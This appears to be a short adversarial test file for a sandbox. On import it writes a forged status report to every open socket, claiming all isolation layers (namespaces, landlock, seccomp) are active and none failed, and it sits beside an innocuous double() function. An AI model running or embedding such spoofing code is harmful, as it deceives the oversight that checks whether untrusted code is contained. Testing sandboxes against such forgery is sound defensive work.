"""Class 4: re-send the layer report claiming every layer is active and none failed."""
import json
import os
import stat
import struct

report = json.dumps({"active": ["pid namespace", "network namespace", "mount namespace", "landlock", "seccomp"],
                     "failed": []}).encode()
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, b"R" + struct.pack("<Q", len(report)) + report)
    except OSError:
        pass


def double(x):
    return x * 2
